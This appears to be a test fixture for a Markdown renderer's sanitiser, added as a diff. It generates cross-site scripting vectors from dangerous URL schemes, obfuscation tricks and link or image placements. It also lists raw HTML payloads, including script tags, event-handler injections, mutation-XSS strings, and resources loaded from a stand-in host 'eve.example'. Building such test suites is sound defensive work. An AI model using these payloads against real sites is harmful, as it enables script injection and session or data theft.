@@ -1,0 +1,155 @@
+"""Attacks on the renderer: schemes × disguises × places, and a list of markup that should stay text."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+SCHEMES = [
+    "javascript:alert(1)",
+    "javascript:123",
+    "x:459",
+    "tel:110",
+    "data:1",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg/onload=alert(1)>",
+    "file:///etc/passwd",
+    "blob:https://eve.example/1",
+    "//eve.example/x",
+    "/log-out",
+    "https:/\\eve.example",
+    "http:javascript:alert(1)",
+]
+
+DISGUISES: dict[str, Callable[[str], str]] = {
+    "as it is": lambda s: s,
+    "capitals": lambda s: s.swapcase(),
+    "tab within": lambda s: s[:4] + "\t" + s[4:],
+    "line feed within": lambda s: s[:4] + "\n" + s[4:],
+    "entity tab": lambda s: s[:4] + "&Tab;" + s[4:],
+    "entity line feed": lambda s: s[:4] + "&NewLine;" + s[4:],
+    "decimal": lambda s: "".join(f"&#{ord(c)};" for c in s[:11]) + s[11:],
+    "hexadecimal": lambda s: "".join(f"&#x{ord(c):x};" for c in s[:11]) + s[11:],
+    "no semicolon": lambda s: "".join(f"&#{ord(c):07d}" for c in s[:11]) + s[11:],
+    "colon as entity": lambda s: s.replace(":", "&colon;"),
+    "zero width space": lambda s: s[:4] + "\u200b" + s[4:],
+    "soft hyphen": lambda s: s[:4] + "\u00ad" + s[4:],
+    "joiner": lambda s: s[:4] + "\u200d" + s[4:],
+    "entity joiner": lambda s: s[:4] + "&zwnj;" + s[4:],
+    "byte order mark": lambda s: "\ufeff" + s,
+    "control before": lambda s: "\x01" + s,
+    "entity control before": lambda s: "&#1;" + s,
+    "blank before": lambda s: "&#32;&nbsp;" + s,
+    "backslash": lambda s: s.replace(":", "\\:"),
+    "right to left": lambda s: "\u202e" + s,
+}
+
+PLACES: dict[str, str] = {
+    "link": "[Ada]({})",
+    "angled link": "[Ada](<{}>)",
+    "link with title": '[Ada]({} "title")',
+    "reference": "[Ada][1]\n\n[1]: {}",
+    "image": "![Ada]({})",
+    "image reference": "![Ada][1]\n\n[1]: {}",
+    "linked image": "[![Ada]({})](https://example.org)",
+    "image in a link": "[![Ada](https://example.org)]({})",
+    "automatic": "<{}>",
+    "bare": "see {} there",
+    "raw": '<a href="{}">Ada</a>',
+    "raw frame": "<iframe src='{}'></iframe>",
+    "in a table": "|a|b|\n|-|-|\n|[x]({})|y|",
+    "in a list": "* [x]({})\n    * [y]({})",
+    "in a quotation": "> [x]({})",
+    "heading": "# [x]({})",
+}
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//eve.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=https://eve.example/pixel.png>",
+    '<svg onload="alert(1)"><animate onbegin=alert(1)></svg>',
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<style>@import 'https://eve.example/x.css';</style>",
+    "<link rel=stylesheet href=https://eve.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=https://eve.example>",
+    "<base href=https://eve.example/>",
+    "<form action=https://eve.example><input name=x autofocus onfocus=alert(1)>",
+    "<button formaction=javascript:alert(1)>Ada</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<a id=csrf name=csrf class=button style=position:fixed href=#>Ada</a>",
+    "<div style='position:fixed;inset:0'>all of the page</div>",
+    "</div></main></body></html><h1>Eve</h1>",
+    "</p></article></li></ul>",
+    "<!-- --><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?php echo 1 ?>",
+    "<!doctype html><html>",
+    "<p title='`'><img src=x onerror=alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
+    "``` html\n<img src=x onerror=alert(1)>\n```",
+    "``` {.x #y onclick=alert(1)}\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "    <script>alert(1)</script>",
+    '[x](https://example.org "onmouseover=alert(1)")',
+    "[x](https://example.org/\"onmouseover='alert(1)')",
+    "[x](https://example.org/' onmouseover='alert(1))",
+    '[x](<https://example.org/"onmouseover=alert(1)//>)',
+    '![x" onerror="alert(1)](https://example.org/x.png)',
+    '![x](https://example.org/"onerror="alert(1))',
+    '<https://example.org/"onmouseover="alert(1)>',
+    'https://example.org/"onmouseover=alert(1)',
+    "https://example.org/<script>alert(1)</script>",
+    "https://example.org/&quot;onmouseover=alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "*<script*>alert(1)</script>",
+    "~~<script~~>alert(1)</script>",
+    "<a href='https://example.org' onclick=alert(1)>x</a>",
+    "# x {#id .class onclick=alert(1)}",
+    "x {: onclick=alert(1) }",
+    "*[x]: <script>alert(1)</script>\n\nx",
+    "[^1]\n\n[^1]: <script>alert(1)</script>",
+    "[TOC]\n\n# <script>alert(1)</script>",
+    "[[javascript:alert(1)]]",
+    "wzxhzdk:0 \u0002wzxhzdk:0\u0003 <b>x</b>",
+    "\u0002klzzwxh:0000\u0003 `<b>`",
+    "&#2;amp&#3;lt;script&#2;amp&#3;gt;",
+    "[a](https://example.org/[b](https://eve.example))",
+    "[[a](https://example.org)](https://eve.example)",
+    "<a@b.de onclick=alert(1)>",
+    '<"onclick=alert(1)"@eve.example>',
+    "mailto:a@b.de?attach=/etc/passwd",
+    "|a|\n|:-:|\n|<td onclick=alert(1)>|",
+    "&#8238;gnp.exe",
+    "[x](https://bank.example@eve.example/)",
+]
+
+
+def vectors() -> list[str]:
+    """All: each place with each scheme in each disguise, and the markup, plain and within other things."""
+    made = [
+        place.replace("{}", disguise(scheme))
+        for place in PLACES.values()
+        for scheme in SCHEMES
+        for disguise in DISGUISES.values()
+    ]
+    boxes = [
+        "{}",
+        "> {}",
+        "* {}",
+        "# {}",
+        "**{}**",
+        "|a|b|\n|-|-|\n|{}|c|",
+        "[{}](https://example.org)",
+        "x\n{}\ny",
+    ]
+    return made + [box.replace("{}", markup) for box in boxes for markup in MARKUP]
